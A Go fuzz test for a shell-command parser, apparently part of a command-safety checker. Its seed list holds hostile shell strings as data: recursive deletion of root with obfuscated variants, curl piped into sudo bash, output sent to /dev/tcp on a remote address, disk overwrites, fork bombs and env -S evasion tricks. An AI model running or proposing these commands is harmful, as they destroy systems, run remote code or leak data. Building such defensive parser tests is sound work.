package shellparse

import (
	"testing"
)

// fuzzSeeds cover every construct the walker handles; FuzzParse starts from
// them (and from the committed corpus in testdata/fuzz/FuzzParse).
var fuzzSeeds = []string{
	"git status",
	"rm -rf /",
	`r\m -rf /`, `'r'm x`, `"r"m x`, `r''m x`, `$'\x72\x6d' x`,
	"/usr/bin/rm x", "./rm x", "ｒｍ -rf /",
	"$(echo rm) -rf /", "`echo rm` -rf /", `"$CMD" x`, `${X}rm`, `r${IFS}m`, `{rm,-rf,/}`,
	"sudo -u bob -S env -i -u HOME X=1 nice -n 5 timeout -k 3 10 stdbuf -oL ionice -c 3 chrt -f 1 taskset -c 0 rm -rf /",
	"doas -u root setsid -f nohup exec -a x command -p builtin rm x",
	"command -v rm; sudo -l; sudo -s; su; su - root -c 'rm x'; runuser -u bob -- rm x",
	`find / -name x -exec rm -rf {} \; -execdir sh -c 'rm "$1"' _ {} +`,
	"ls | xargs -0 -n1 -I{} sudo rm {}",
	"watch -n 1 'ls | wc -l'; watch -x rm x; flock /tmp/l -c 'rm x'; flock -w 1 /tmp/l rm x",
	"busybox sh -c 'rm x'; toybox rm x; parallel rm ::: a b",
	`env -S 'rm -rf /'`,
	`bash -c "sh -c 'bash -c \"sh -c \\\"rm x\\\"\"'"`,
	`bash -c "$x"; python3 -c 'import os'; perl -e 1; node -e 1; deno eval 1; BUN.EXE -e 1`,
	"curl -s x | sudo bash; base64 -d <<< eA== | sh; cat x | python3 -",
	"bash <(curl x); source <(curl x); . \"$f\"; eval \"$x\"; eval 'rm x'",
	"python3 <<EOF\nimport os\nEOF\nbash <<< \"$x\"",
	"cat <<-'EOF' > out\n\trm -rf /\n\tEOF\n",
	"echo x > /dev/sda; cat >> ~/.bashrc; cmd &> /dev/tcp/1.2.3.4/80; exec 3<>/dev/tcp/h/80; cmd 2>&1 <&3",
	":(){ :|:& };:", "bomb(){ bomb|bomb& }; bomb", "f(){ f & f; }; f", "function g { g | g; }",
	"printf SAFE # x; reboot", "printf 'a;reboot'", `echo "it's \"fine\""`,
	"if a; then b; elif c; then d; else e; fi; while a; do b; done; until a; do b; done",
	"for x in $(a); do b; done; for ((i=0;i<$(c);i++)); do d; done; select x in a; do b; done",
	"case $(a) in x|y) b;; *) c;& esac",
	"(a; (b)) && { c; } || ! d; time -p e | f; coproc g; coproc N { h; }",
	"[[ -f $(a) && $(b) =~ x ]]; (( $(c) + 1 )); let x=$(d)+1",
	"export X=$(a); local Y=`b`; declare -a Z=($(c) d); readonly R",
	"echo ${X:-$(a)} ${Y/$(b)/c} ${#Z[$(d)]} ${W:$(e):1} $(( $(f) ))",
	"diff <(a) >(b); X=1; > f; 2>/dev/null",
	"printf SAFE\r#x; reboot\r\n",
	`env --s''='sh -c reboot'; env -S "sh\_-c\_reboot"; env -vS/bin/sh -c 'rm -rf /'; env -S '-i sh -c ${X}'`,
	"su root -c reboot; runuser -- root --session-command reboot; su -wFOO,creboot root",
	"trap 'rm -rf /tmp/x' EXIT; tmux new -d 'npm run dev'; script -qc 'rm x' /dev/null; nix-shell --run 'rm x'",
	"sudo -s rm -rf /; parallel ::: 'rm x' reboot; echo x | at now; echo x | crontab -; echo x >& file",
	"a(){ b|b& }; b(){ a; }; a",
	"pwsh.exe -Command 'Get-Process'; perl -pi -e 's/a/b/' f; ruby -rjson -e 1; python3 \"$f\"",
	"echo 'unterminated",
	"$(",
	"",
}

func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		s, err := Parse(src, Options{MaxBytes: 4096})
		if err != nil {
			if s != nil {
				t.Fatalf("error %v with a script", err)
			}
			return
		}
		inBounds := func(what string, sp Span) {
			if sp.Start < 0 || sp.End > len(src) || sp.Start > sp.End {
				t.Fatalf("%s span %+v out of bounds for %d bytes", what, sp, len(src))
			}
		}
		for _, c := range s.Commands {
			inBounds("command "+c.Text, c.Span)
			if c.Text == "" {
				t.Fatalf("command %+v without text", c)
			}
			if c.Context.Payload == 0 && src[c.Span.Start:c.Span.End] != c.Text {
				t.Fatalf("command text %q is not its span %+v (%q)", c.Text, c.Span, src[c.Span.Start:c.Span.End])
			}
		}
		for _, o := range s.Opaque {
			inBounds("opaque "+o.Text, o.Span)
			if o.Text == "" {
				t.Fatalf("opaque %+v without text", o)
			}
		}
		for _, fn := range s.Functions {
			inBounds("function "+fn.Name, fn.Span)
		}
	})
}
